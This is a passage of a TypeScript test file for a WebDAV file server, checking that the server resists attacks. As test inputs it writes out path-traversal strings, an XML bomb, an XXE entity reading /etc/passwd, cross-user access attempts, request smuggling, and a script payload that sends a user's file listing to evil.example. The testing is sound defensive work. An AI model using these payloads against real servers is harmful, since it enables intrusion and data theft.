import { request } from 'node:http';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectContinue } from '@palabre/core/testing';
import { ALICE, BOB, CAROL, PASSWORDS, backends, hrefs, startServer, type TestServer } from './harness.js';

const A = `/dav/files/${ALICE}`;
const B = `/dav/files/${BOB}`;

/** A request with the path sent exactly as written (fetch would normalise ".."). */
function raw(t: TestServer, method: string, path: string, headers: Record<string, string> = {}, body?: string): Promise<{ status: number; text: string }> {
  const url = new URL(t.origin);
  return new Promise((resolve, reject) => {
    const req = request({ host: url.hostname, port: url.port, method, path, headers: { authorization: t.auth(ALICE), ...headers } }, (res) => {
      let text = '';
      res.on('data', (d: Buffer) => (text += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** Everything about Bob's drive that an attack could change. */
async function snapshot(t: TestServer) {
  const { drive, locks } = t.stores;
  const space = (await drive.findSpace(BOB))!;
  const tree = await drive.descendants(space.rootId, 10_000);
  if (tree === 'too-many') throw new Error('too many');
  const ids = [space.rootId, ...tree.map((e) => e.node.id)];
  const props = await drive.properties(ids);
  return {
    tree: tree.map((e) => ({ path: e.path.join('/'), id: e.node.id, blob: e.node.blobId, version: e.node.version, size: e.node.size })),
    root: await drive.getNode(space.rootId),
    props: [...props].sort(),
    locks: await locks.below(`/files/${BOB}`, new Date()),
  };
}

describe.each(backends)('hostile input on %s', (backend) => {
  let t: TestServer;
  let bobLock: string;
  beforeAll(async () => {
    t = await startServer(backend, { extra: { limits: { maxInfinity: 300 } } });
    expect((await t.dav('PUT', `${B}/secret.txt`, { body: 'bob only', user: BOB })).status).toBe(201);
    expect((await t.dav('MKCOL', `${B}/private/`, { user: BOB })).status).toBe(201);
    expect((await t.dav('PUT', `${B}/private/plans.txt`, { body: 'plans', user: BOB })).status).toBe(201);
    const lock = await t.dav('LOCK', `${B}/private/plans.txt`, {
      user: BOB,
      body: '<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype></D:lockinfo>',
    });
    bobLock = lock.headers.get('lock-token')!;
    expect((await t.dav('PUT', `${A}/mine.txt`, { body: 'alice' })).status).toBe(201);
  });
  afterAll(async () => t.close());

  it('refuses path traversal in every spelling with 400, reaching nothing', async () => {
    const before = await snapshot(t);
    const paths = [
      `${A}/../${BOB}/secret.txt`,
      `${A}/%2e%2e/${BOB}/secret.txt`,
      `${A}/%2E%2E/%2E%2E/files/${BOB}/secret.txt`,
      `${A}/..%2f${BOB}%2fsecret.txt`,
      `${A}/a%2f..%2f..%2f${BOB}`,
      `${A}/secret%00.txt`,
      `${A}/%c0%ae%c0%ae/${BOB}/secret.txt`,
      `${A}/%e0%80%ae%e0%80%ae/x`,
      `${A}/./mine.txt`,
      `${A}/x#frag`,
    ];
    for (const path of paths) {
      for (const method of ['GET', 'PUT', 'DELETE', 'PROPFIND', 'MKCOL']) {
        const res = await raw(t, method, path, {}, method === 'PUT' ? 'pwned' : undefined);
        expect(res.status, `${method} ${path}`).toBe(400);
      }
    }
    const backslash = await raw(t, 'GET', `${A}/..%5c..%5c${BOB}%5csecret.txt`);
    expect(backslash.status).toBe(404);
    expect(await snapshot(t)).toEqual(before);
  });

  it('refuses XML bombs, external entities and deep nesting with 400, storing nothing', async () => {
    const before = await (await t.dav('PROPFIND', `${A}/mine.txt`, { headers: { depth: '0' } })).text();
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`;
    const bodies = [
      `${laughs}<D:propfind xmlns:D="DAV:"><D:prop><D:getetag/></D:prop>&lol9;</D:propfind>`,
      '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">&x;</x:p></D:prop></D:set></D:propertyupdate>',
      `<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</x:p></D:prop></D:set></D:propertyupdate>`,
      '<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><p:x/></D:prop></D:set></D:propertyupdate>',
    ];
    for (const body of bodies) {
      for (const method of ['PROPFIND', 'PROPPATCH', 'LOCK']) {
        const res = await t.dav(method, `${A}/mine.txt`, { body, headers: { depth: '0', 'content-type': 'application/xml' } });
        expect(res.status, `${method} ${body.slice(0, 60)}`).toBe(400);
      }
    }
    expect(await (await t.dav('PROPFIND', `${A}/mine.txt`, { headers: { depth: '0' } })).text()).toBe(before);
    expect((await t.stores.locks.covering(`/files/${ALICE}/mine.txt`, new Date())).length).toBe(0);
  });

  it('answers a 1 GB PROPFIND body with 413 after reading at most a few MB, and stays up', async () => {
    const url = new URL(t.origin);
    for (const framing of ['content-length', 'chunked']) {
      const result = await new Promise<{ head: string; sent: number }>((resolve) => {
        const socket = connect(Number(url.port), url.hostname);
        let head = '';
        let sent = 0;
        const chunk = Buffer.alloc(64 * 1024, 0x20);
        socket.on('connect', () => {
          socket.write(
            `PROPFIND ${A}/ HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: ${t.auth(ALICE)}\r\nDepth: 0\r\nContent-Type: application/xml\r\n` +
              (framing === 'chunked' ? 'Transfer-Encoding: chunked\r\n\r\n' : `Content-Length: ${1024 ** 3}\r\n\r\n`),
          );
          const pump = () => {
            while (sent < 1024 ** 3 && !socket.destroyed) {
              const piece = framing === 'chunked' ? Buffer.concat([Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from('\r\n')]) : chunk;
              sent += chunk.length;
              if (!socket.write(piece)) return socket.once('drain', pump);
            }
          };
          pump();
        });
        socket.on('data', (d) => (head += d.toString()));
        socket.on('error', () => undefined);
        socket.on('close', () => resolve({ head, sent }));
      });
      expect(result.head, framing).toMatch(/^HTTP\/1.1 413/);
      expect(result.sent, framing).toBeLessThan(200 * 1024 * 1024);
    }
    expect((await t.dav('GET', `${A}/mine.txt`)).status).toBe(200);
  });

  it('stops a 10,000-deep MKCOL chain at the depth limit without harm', async () => {
    const statuses = new Map<number, number>();
    const attempt = async (depth: number) => {
      const res = await raw(t, 'MKCOL', `${A}/deep${'/d'.repeat(depth)}/`);
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
      if (res.status !== 201 && res.status !== 414 && res.status !== 431) throw new Error(`MKCOL at depth ${depth}: ${res.status}`);
      return res.status;
    };
    // One level at a time while they are made; past the limit each attempt stands alone, so they go
    // fifty at once (the same 10,000 requests, in a time a loaded machine allows).
    let depth = 0;
    while (depth < 10_000 && (await attempt(depth)) === 201) depth++;
    for (depth++; depth < 10_000; depth += 50) {
      await Promise.all(Array.from({ length: Math.min(50, 10_000 - depth) }, (_, i) => attempt(depth + i)));
    }
    expect(statuses.get(201)).toBe(62);
    expect((statuses.get(414) ?? 0) + (statuses.get(431) ?? 0)).toBe(10_000 - 62);
    // The deepest folder is still usable, and the server is responsive.
    const deepest = `${A}/deep${'/d'.repeat(61)}/`;
    expect((await raw(t, 'PROPFIND', deepest, { depth: '0' })).status).toBe(207);
    expect((await t.dav('DELETE', `${A}/deep/`)).status).toBe(204);
  }, 180_000);

  it('refuses Depth: infinity over a tree larger than the bound with 403 propfind-finite-depth', async () => {
    const space = (await t.stores.drive.findSpace(ALICE))!;
    const big = await t.stores.drive.createFolder(space.rootId, 'big');
    for (let i = 0; i < 20; i++) {
      const sub = await t.stores.drive.createFolder(big.id, `sub${i}`);
      for (let j = 0; j < 15; j++) await t.stores.drive.createFolder(sub.id, `leaf${j}`);
    }
    const res = await t.dav('PROPFIND', `${A}/big/`, { headers: { depth: 'infinity' } });
    expect(res.status).toBe(403);
    expect(await res.text()).toContain('propfind-finite-depth');
    expect((await t.dav('PROPFIND', `${A}/big/`, { headers: { depth: '1' } })).status).toBe(207);
    expect((await t.dav('PROPFIND', `${A}/big/`)).status).toBe(403);
  });

  it("never lets alice read, write, lock, copy or move into bob's files", async () => {
    const before = await snapshot(t);
    const lockBody = '<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:shared/></D:lockscope><D:locktype><D:write/></D:locktype></D:lockinfo>';
    const dest = (p: string) => ({ destination: `${t.origin}${p}` });
    const attempts: [string, string, Record<string, string>, string?][] = [
      ['GET', `${B}/secret.txt`, {}],
      ['HEAD', `${B}/secret.txt`, {}],
      ['PROPFIND', `${B}/`, { depth: '1' }],
      ['PROPFIND', `${B}/secret.txt`, { depth: '0' }],
      ['PUT', `${B}/secret.txt`, {}, 'overwritten'],
      ['PUT', `${B}/new.txt`, {}, 'planted'],
      ['PUT', `${B}/private/plans.txt`, { if: `(${bobLock})` }, 'with a stolen token'],
      ['DELETE', `${B}/secret.txt`, {}],
      ['DELETE', `${B}/private/`, {}],
      ['MKCOL', `${B}/intruder/`, {}],
      ['PROPPATCH', `${B}/secret.txt`, {}, '<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">1</x:p></D:prop></D:set></D:propertyupdate>'],
      ['LOCK', `${B}/secret.txt`, {}, lockBody],
      ['LOCK', `${B}/unmapped.txt`, {}, lockBody],
      ['LOCK', `${B}/private/plans.txt`, { if: `(${bobLock})` }],
      ['UNLOCK', `${B}/private/plans.txt`, { 'lock-token': bobLock }],
      ['COPY', `${B}/secret.txt`, dest(`${A}/stolen.txt`)],
      ['MOVE', `${B}/secret.txt`, dest(`${A}/stolen.txt`)],
      ['COPY', `${A}/mine.txt`, dest(`${B}/secret.txt`)],
      ['COPY', `${A}/mine.txt`, dest(`${B}/planted.txt`)],
      ['MOVE', `${A}/mine.txt`, dest(`${B}/planted.txt`)],
      ['ACL', `${B}/secret.txt`, {}, `<D:acl xmlns:D="DAV:"><D:ace><D:principal><D:href>/dav/principals/users/${ALICE}/</D:href></D:principal><D:grant><D:privilege><D:all/></D:privilege></D:grant></D:ace></D:acl>`],
      ['REPORT', `${B}/`, {}, '<D:expand-property xmlns:D="DAV:"/>'],
    ];
    // Refused, and exactly as if bob had no drive at all: nothing tells alice his files exist.
    const NOBODY = '/dav/files/nobody@ms.gouv.test';
    for (const [method, path, headers, body] of attempts) {
      const res = await t.dav(method, path, { headers, body: body ?? null });
      const text = await res.text();
      expect(res.status, `${method} ${path}`).toBeGreaterThanOrEqual(403);
      const elsewhere = (h: Record<string, string>) => Object.fromEntries(Object.entries(h).map(([k, v]) => [k, v.replace(B, NOBODY)]));
      const none = await t.dav(method, path.replace(B, NOBODY), { headers: elsewhere(headers), body: body ?? null });
      expect(`${res.status} ${text}`, `${method} ${path}`).toBe(`${none.status} ${(await none.text()).replaceAll(NOBODY, B)}`);
      expect(text).not.toContain('bob only');
      expect(text).not.toContain('plans');
    }
    // Alice's own If header cannot probe bob's files either.
    const probe = await t.dav('PUT', `${A}/probe.txt`, { body: 'x', headers: { if: `<${t.origin}${B}/secret.txt> (["anything"])` } });
    expect(probe.status).toBe(412);
    expect(await snapshot(t)).toEqual(before);
    expect(await (await t.dav('GET', `${A}/mine.txt`)).text()).toBe('alice');
    expect(await (await t.dav('GET', `${B}/secret.txt`, { user: BOB })).text()).toBe('bob only');
    // Wrong passwords and unknown users get 401, never a hint.
    for (const authorization of [`Basic ${Buffer.from(`${BOB}:wrong`).toString('base64')}`, `Basic ${Buffer.from(`nobody@ms.gouv.test:${PASSWORDS[BOB]}`).toString('base64')}`, 'Bearer x', 'Basic %%%']) {
      const res = await fetch(`${t.origin}${B}/secret.txt`, { headers: { authorization } });
      expect(res.status).toBe(401);
      expect(res.headers.get('www-authenticate')).toContain('Basic');
    }
  });

  it('never logs credentials or file contents', () => {
    const text = t.log.text();
    for (const secret of Object.values(PASSWORDS)) expect(text).not.toContain(secret);
    expect(text).not.toContain('bob only');
    expect(text).not.toMatch(/Basic [A-Za-z0-9+/=]{8,}/);
  });
});

// ---------------------------------------------------------------- issue 11: an outside attack on `palabre serve`

const ELISE = 'élise@ms.gouv.test';
const DAN = 'dan@other.gouv.test';
const lockinfo = (scope: 'exclusive' | 'shared' = 'exclusive') =>
  `<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:${scope}/></D:lockscope><D:locktype><D:write/></D:locktype></D:lockinfo>`;

/** Other spellings of a home's address part (case, %40, a trailing dot, NFD), as a client may send them. */
function spellings(address: string): string[] {
  const at = address.lastIndexOf('@');
  const [local, domain] = [address.slice(0, at), address.slice(at + 1)];
  const decoded = [
    address.toUpperCase(),
    `${local[0]!.toUpperCase()}${local.slice(1)}@${domain.toUpperCase()}`,
    `${address}.`,
    `${local.toUpperCase()}@${domain}.`,
    `${local.normalize('NFD')}@${domain}`,
    `${local.normalize('NFD').toUpperCase()}@${domain.toUpperCase()}`,
    address,
  ];
  const canonical = encodeURIComponent(address).replace('%40', '@');
  const out = decoded.flatMap((d) => [encodeURIComponent(d).replace('%40', '@'), encodeURIComponent(d)]);
  return out.filter((s, i) => out.indexOf(s) === i && s !== canonical);
}

/**
 * Send bytes exactly as written on one connection, and what the server answered until it stopped writing.
 * The connection stays open (half-open, as a hostile client may keep it) until `close()`.
 */
function rawExchange(t: TestServer, bytes: string): Promise<{ text: string; close(): void }> {
  const url = new URL(t.origin);
  return new Promise((resolve) => {
    const socket = connect({ port: Number(url.port), host: url.hostname, allowHalfOpen: true }, () => socket.write(bytes));
    let text = '';
    const done = () => resolve({ text, close: () => socket.destroy() });
    socket.on('data', (d: Buffer) => (text += d.toString('latin1')));
    socket.on('error', () => undefined);
    socket.on('end', done);
    socket.on('close', done);
  });
}

/** Wait (bounded) until the server has logged its answer to `count` requests of this method. */
async function answered(t: TestServer, method: string, count: number): Promise<void> {
  for (let i = 0; i < 500; i++) {
    if (t.log.records.filter((r) => r.event === 'dav.request' && r.fields.method === method).length >= count) return;
    await new Promise((r) => setTimeout(r, 10));
  }
  throw new Error(`the server never answered ${count} ${method}`);
}

describe.each(backends)('issue 11 attacks on %s', (backend) => {
  let t: TestServer;
  const G = '/dav/files/projets';
  beforeAll(async () => {
    t = await startServer(backend, { users: { [ELISE]: 'elise-pass', [DAN]: 'dan-pass' } });
    const { directory, drive } = t.stores;
    // A group folder for a team (alice, bob), granted directly to carol too.
    const team = await directory.createGroup({ name: 'equipe', domain: 'ms.gouv.test' });
    for (const who of [ALICE, BOB]) await directory.addGroupMember(team.id, { accountId: (await directory.findAccount(who))!.id });
    const space = await drive.createGroupSpace({ name: 'projets', groupId: team.id });
    await drive.setGrants(space.rootId, [
      { principal: { kind: 'group', id: team.id }, access: 'write' },
      { principal: { kind: 'account', id: (await directory.findAccount(CAROL))!.id }, access: 'read' },
    ]);
    // Bob may edit alice's "shared" folder.
    expect((await t.dav('MKCOL', `${A}/shared/`)).status).toBe(201);
    const acl = `<D:acl xmlns:D="DAV:"><D:ace><D:principal><D:href>/dav/principals/users/${BOB}/</D:href></D:principal><D:grant><D:privilege><D:read/></D:privilege><D:privilege><D:write/></D:privilege></D:grant></D:ace></D:acl>`;
    expect((await t.dav('ACL', `${A}/shared/`, { body: acl })).status).toBe(200);
  });
  afterAll(async () => t.close());

  it("never lets a non-canonical spelling of a home's address get past a lock, and never orphans the lock", async () => {
    // Bob edits a file in alice's shared folder and locks it; alice locks a file of her own.
    expect((await t.dav('PUT', `${A}/shared/budget.ods`, { body: 'bob edits', user: BOB })).status).toBe(201);
    const bobLock = (await t.dav('LOCK', `${A}/shared/budget.ods`, { body: lockinfo(), user: BOB })).headers.get('lock-token')!;
    expect(bobLock).toMatch(/^<opaquelocktoken:/);
    expect((await t.dav('PUT', `${A}/mine.odt`, { body: 'alice v1' })).status).toBe(201);
    const aliceLock = (await t.dav('LOCK', `${A}/mine.odt`, { body: lockinfo() })).headers.get('lock-token')!;
    expect((await t.dav('PUT', `${A}/shared/budget.ods`, { body: 'overwritten' })).status).toBe(423);

    for (const spelling of spellings(ALICE)) {
      const V = `/dav/files/${spelling}`;
      for (const [method, path, user, body] of [
        ['PUT', `${V}/shared/budget.ods`, ALICE, 'alice overwrites bob'],
        ['DELETE', `${V}/shared/budget.ods`, ALICE],
        ['PROPPATCH', `${V}/shared/budget.ods`, ALICE, '<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">1</x:p></D:prop></D:set></D:propertyupdate>'],
        ['LOCK', `${V}/shared/budget.ods`, ALICE, lockinfo()],
        ['PUT', `${V}/mine.odt`, ALICE, 'a second client without the token'],
        ['DELETE', `${V}/mine.odt`, ALICE],
        ['DELETE', `${V}/shared/`, ALICE],
        ['MOVE', `${V}/shared/`, ALICE],
      ] as const) {
        const res = await raw(t, method, path, { authorization: t.auth(user), ...(method === 'MOVE' ? { destination: `${A}/moved/` } : {}) }, body);
        expect(res.status, `${method} ${path}`).toBe(423);
      }
      // The Destination header and the If header's resource tags are the same paths.
      const over = await raw(t, 'COPY', `${A}/mine.odt`, { authorization: t.auth(ALICE), 'if': `(${aliceLock})`, destination: `${t.origin}${V}/shared/budget.ods` });
      expect(over.status, `COPY onto ${V}`).toBe(423);
      const tagged = await raw(t, 'PUT', `${A}/mine.odt`, { authorization: t.auth(ALICE), 'if': `<${t.origin}${V}/mine.odt> (${aliceLock})` }, 'alice v2');
      expect(tagged.status, `If tagged with ${V}`).toBe(204);
      // Answers name the resource canonically whatever spelling the client used, but for a mere
      // percent-encoding of the canonical name (%40 for @), which is echoed so the client finds its
      // request-URI among the hrefs (neon, litmus, python-caldav compare them as strings).
      const listing = await raw(t, 'PROPFIND', `${V}/shared/`, { authorization: t.auth(ALICE), depth: '1' }, '<D:propfind xmlns:D="DAV:"><D:prop><D:getetag/></D:prop></D:propfind>');
      expect(listing.status).toBe(207);
      const named = decodeURIComponent(spelling) === ALICE ? V : A;
      expect(hrefs(listing.text), V).toEqual([`${named}/shared/`, `${named}/shared/budget.ods`]);
    }
    expect(await (await t.dav('GET', `${A}/shared/budget.ods`, { user: BOB })).text()).toBe('bob edits');
    expect(await (await t.dav('GET', `${A}/mine.odt`)).text()).toBe('alice v2');
    // The locks are where they were, and their holders still use them through any spelling.
    const locks = await t.stores.locks.below(`/files/${ALICE}`, new Date());
    expect(locks.map((l) => l.root).sort()).toEqual([`/files/${ALICE}/mine.odt`, `/files/${ALICE}/shared/budget.ods`]);
    const V = `/dav/files/${spellings(ALICE)[0]}`;
    expect((await raw(t, 'PUT', `${V}/shared/budget.ods`, { authorization: t.auth(BOB), if: `(${bobLock})` }, 'bob v2')).status).toBe(204);
    expect((await raw(t, 'UNLOCK', `${V}/shared/budget.ods`, { authorization: t.auth(BOB), 'lock-token': bobLock })).status).toBe(204);
    expect((await raw(t, 'UNLOCK', `${V}/mine.odt`, { authorization: t.auth(ALICE), 'lock-token': aliceLock })).status).toBe(204);
    // A lock taken through a variant is keyed canonically too.
    const variantLock = await raw(t, 'LOCK', `${V}/mine.odt`, { authorization: t.auth(ALICE) }, lockinfo());
    expect(variantLock.status).toBe(200);
    expect(variantLock.text).toContain(`<d:lockroot><d:href>${A}/mine.odt</d:href></d:lockroot>`);
    expect((await t.dav('PUT', `${A}/mine.odt`, { body: 'no token' })).status).toBe(423);
    expect((await t.stores.locks.covering(`/files/${ALICE}/mine.odt`, new Date())).length).toBe(1);
  });

  it('canonicalises the address of a non-ASCII home (NFD, case, %40) to one key', async () => {
    const E = `/dav/files/${encodeURIComponent(ELISE)}`;
    expect((await raw(t, 'PUT', `${E}/note.txt`, { authorization: t.auth(ELISE) }, 'élise')).status).toBe(201);
    const lock = await raw(t, 'LOCK', `${E}/note.txt`, { authorization: t.auth(ELISE) }, lockinfo());
    expect(lock.status).toBe(200);
    for (const spelling of spellings(ELISE)) {
      expect((await raw(t, 'PUT', `/dav/files/${spelling}/note.txt`, { authorization: t.auth(ELISE) }, 'bypass')).status, spelling).toBe(423);
      expect((await raw(t, 'DELETE', `/dav/files/${spelling}/note.txt`, { authorization: t.auth(ELISE) })).status, spelling).toBe(423);
    }
    expect(await (await t.dav('GET', `${E}/note.txt`, { user: ELISE })).text()).toBe('élise');
  });

  it('reaches no group folder through another spelling of its name', async () => {
    expect((await t.dav('PUT', `${G}/plan.txt`, { body: 'bob plans', user: BOB })).status).toBe(201);
    const lock = (await t.dav('LOCK', `${G}/plan.txt`, { body: lockinfo(), user: BOB })).headers.get('lock-token')!;
    expect(lock).toBeTruthy();
    expect((await t.dav('PUT', `${G}/plan.txt`, { body: 'alice' })).status).toBe(423);
    for (const spelling of ['PROJETS', 'Projets', 'projets.', '%70rojets']) {
      const res = await raw(t, 'PUT', `/dav/files/${spelling}/plan.txt`, {}, 'alice overwrites');
      if (spelling === '%70rojets') expect(res.status).toBe(423);
      else expect(res.status, spelling).toBe(409);
      expect((await raw(t, 'DELETE', `/dav/files/${spelling}/plan.txt`)).status, spelling).toBe(spelling === '%70rojets' ? 423 : 404);
    }
    expect(await (await t.dav('GET', `${G}/plan.txt`, { user: BOB })).text()).toBe('bob plans');
    expect((await t.stores.locks.covering('/files/projets/plan.txt', new Date())).length).toBe(1);
  });

  it('serves uploaded HTML, SVG and client-typed active content sandboxed, as attachments, never as HTML', async () => {
    const script = '<script>fetch("/dav/files/").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+btoa(t)))</script>';
    const uploads: [string, string, string | null][] = [
      ['page.html', `<html>${script}</html>`, null],
      ['page.htm', `<html>${script}</html>`, 'text/html'],
      ['image.svg', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'image/svg+xml'],
      ['page.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`, 'application/xhtml+xml'],
      ['data.xml', `<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>`, null],
      ['innocent', `<html>${script}</html>`, 'text/html; charset=utf-8'],
      ['innocent.bin', `<html>${script}</html>`, 'TEXT/HTML'],
      ['picture', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`, 'image/svg+xml'],
      ['mixed', `<html>${script}</html>`, 'application/vnd.evil+xml'],
      ['stream', `--x\r\nContent-Type: text/html\r\n\r\n${script}`, 'multipart/x-mixed-replace; boundary=x'],
      ['script', 'alert(1)', 'application/javascript'],
    ];
    for (const [name, body, type] of uploads) {
      expect((await t.dav('PUT', `${A}/shared/${name}`, { body, headers: type ? { 'content-type': type } : {} })).status, name).toBe(201);
    }
    for (const [name] of uploads) {
      for (const method of ['GET', 'HEAD']) {
        const res = await t.dav(method, `${A}/shared/${name}`, { user: BOB });
        expect(res.status, name).toBe(200);
        const type = res.headers.get('content-type') ?? '';
        expect(res.headers.get('content-security-policy'), name).toMatch(/\bsandbox\b/);
        expect(res.headers.get('content-security-policy'), name).toContain("default-src 'none'");
        expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
        expect(res.headers.get('content-disposition') ?? '', `${name} (${type})`).toMatch(/^attachment\b/);
        // A type the client chose for a name without one is never an active type.
        if (!name.includes('.')) expect(type, name).toBe('application/octet-stream');
      }
    }
    // Passive types still display inline (sandboxed).
    expect((await t.dav('PUT', `${A}/shared/photo.png`, { body: '\x89PNG' })).status).toBe(201);
    const png = await t.dav('GET', `${A}/shared/photo.png`, { user: BOB });
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toBeNull();
    expect(png.headers.get('content-security-policy')).toMatch(/\bsandbox\b/);
    // Every DAV answer says nosniff, errors and listings included.
    for (const res of [await t.dav('GET', `${A}/nothing-here`), await t.dav('PROPFIND', `${A}/`, { headers: { depth: '0' } }), await t.dav('GET', `${A}/`)]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it("answers the same for another account's home as for no account at all", async () => {
    const answer = async (method: string, path: string, user: string, body?: string, headers: Record<string, string> = {}) => {
      const res = await raw(t, method, path, { authorization: t.auth(user), ...headers }, body);
      return `${res.status} ${res.text}`;
    };
    // Homes that exist (alice's, bob's once used, alice's shared folder's siblings), one created never, none at all.
    expect((await t.dav('PUT', `/dav/files/${BOB}/x.txt`, { body: 'bob', user: BOB })).status).toBe(201);
    const probes: [string, string, string?, Record<string, string>?][] = [
      ['GET', '/x.txt'],
      ['GET', '/'],
      ['PROPFIND', '/', undefined, { depth: '1' }],
      ['PUT', '/x.txt', 'planted'],
      ['PUT', '', 'planted'],
      ['DELETE', '/x.txt'],
      ['MKCOL', '/d/'],
      ['MKCOL', '/'],
      ['LOCK', '/x.txt', lockinfo()],
      ['PROPPATCH', '/x.txt', '<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">1</x:p></D:prop></D:set></D:propertyupdate>'],
      ['COPY', '/x.txt', undefined, { destination: `${A}/copied.txt` }],
    ];
    for (const [method, rest, body, headers] of probes) {
      for (const caller of [DAN, CAROL]) {
        const none = (await answer(method, `/dav/files/nobody@ms.gouv.test${rest}`, caller, body, headers)).replace('nobody@ms.gouv.test', 'X');
        // Existing homes (used, or never used: carol's), each seen by someone who has no grant there.
        for (const home of [BOB, ALICE, ELISE, ...(caller === CAROL ? [] : [CAROL])]) {
          const seen = await answer(method, `/dav/files/${encodeURIComponent(home)}${rest}`, caller, body, headers);
          expect(seen.replace(encodeURIComponent(home), 'X'), `${method} ${home}${rest} as ${caller}`).toBe(none);
        }
      }
      // A group folder one is not granted looks like none at all.
      expect((await answer(method, `${G}${rest}`, DAN, body, headers)).replace('projets', 'X'), `${method} ${G}${rest}`).toBe(
        (await answer(method, `/dav/files/nosuchfolder${rest}`, DAN, body, headers)).replace('nosuchfolder', 'X'),
      );
    }
    expect(await (await t.dav('GET', `/dav/files/${BOB}/x.txt`, { user: BOB })).text()).toBe('bob');
    expect((await t.dav('GET', `${A}/copied.txt`)).status).toBe(404);
  });

  it("answers the same for a principal outside the caller's domain as for no principal at all", async () => {
    const find = async (path: string, user = ALICE) => {
      const res = await raw(t, 'PROPFIND', path, { authorization: t.auth(user), depth: '0' });
      return `${res.status} ${res.text}`;
    };
    const outsider = await find(`/dav/principals/users/${DAN}/`);
    expect(outsider.replace(DAN, 'X')).toBe((await find('/dav/principals/users/nobody@other.gouv.test/')).replace('nobody@other.gouv.test', 'X'));
    expect(outsider).toMatch(/^404 /);
    // Groups of another domain, and granting to an outsider through ACL.
    const { directory } = t.stores;
    await directory.createGroup({ name: 'other-team', domain: 'other.gouv.test' });
    expect((await find('/dav/principals/groups/other-team/')).replace('other-team', 'X')).toBe((await find('/dav/principals/groups/no-team/')).replace('no-team', 'X'));
    const grant = (who: string) =>
      `<D:acl xmlns:D="DAV:"><D:ace><D:principal><D:href>/dav/principals/${who}/</D:href></D:principal><D:grant><D:privilege><D:read/></D:privilege></D:grant></D:ace></D:acl>`;
    const aclAnswer = async (who: string) => {
      const res = await raw(t, 'ACL', `${A}/shared/`, { authorization: t.auth(ALICE) }, grant(who));
      return `${res.status} ${res.text}`;
    };
    expect((await aclAnswer(`users/${DAN}`)).replace(DAN, 'X')).toBe((await aclAnswer('users/nobody@other.gouv.test')).replace('nobody@other.gouv.test', 'X'));
    expect((await aclAnswer('groups/other-team')).replace('other-team', 'X')).toBe((await aclAnswer('groups/no-team')).replace('no-team', 'X'));
    // Principals of one's own domain stay visible (sharing needs them), and dan sees himself.
    expect(await find(`/dav/principals/users/${BOB}/`)).toMatch(/^207 /);
    expect(await find(`/dav/principals/users/${DAN}/`, DAN)).toMatch(/^207 /);
    expect(await find(`/dav/principals/users/${ALICE}/`, DAN)).toMatch(/^404 /);
    const grants = await t.stores.drive.grantsOn([(await t.stores.drive.resolve((await t.stores.drive.findSpace(ALICE))!.rootId, ['shared']))[1]!.id]);
    expect(grants.map((g) => g.principal.kind)).toEqual(['account']);
  });

  it('never commits a PUT whose body runs past its Content-Length while the client is told 400', async () => {
    const url = new URL(t.origin);
    const puts = t.log.records.filter((r) => r.event === 'dav.request' && r.fields.method === 'PUT').length;
    const head = `PUT ${A}/overlong.txt HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: ${t.auth(ALICE)}\r\nContent-Length: 5\r\n\r\n`;
    const { text: answer, close } = await rawExchange(t, `${head}hello, and then bytes that are no request at all\r\n\r\n`);
    await answered(t, 'PUT', puts + 1);
    close();
    const got = await t.dav('GET', `${A}/overlong.txt`);
    if (got.status === 200) expect(answer, 'stored, so the client must have been told so').toMatch(/^HTTP\/1.1 201/);
    expect(answer).not.toMatch(/^HTTP\/1.1 2/);
    expect(got.status).toBe(404);
    // A well-formed pipelined request after the body is a request like any other.
    const next = await rawExchange(t, `${head}hello${`OPTIONS ${A}/ HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: ${t.auth(ALICE)}\r\nConnection: close\r\n\r\n`}`);
    next.close();
    expect(next.text).toMatch(/^HTTP\/1.1 201[^]*HTTP\/1.1 200/);
    expect(await (await t.dav('GET', `${A}/overlong.txt`)).text()).toBe('hello');
  });

  it('sends 100 Continue only once the request is authenticated, authorised and within quota', async () => {
    const { directory } = t.stores;
    const carol = (await directory.findAccount(CAROL))!;
    await directory.updateAccount(carol.id, { quotaBytes: 1000 });
    const body = Buffer.alloc(4000, 'x');
    const small = Buffer.from('small');
    const refused: [string, string, Buffer, Record<string, string>, number][] = [
      ['PUT', `${A}/c1.txt`, small, {}, 401],
      ['PUT', `${A}/c1.txt`, small, { authorization: `Basic ${Buffer.from(`${ALICE}:wrong`).toString('base64')}` }, 401],
      ['PUT', `/dav/files/${BOB}/c1.txt`, small, { authorization: t.auth(ALICE) }, 409],
      ['PUT', `${G}/c1.txt`, small, { authorization: t.auth(CAROL) }, 403],
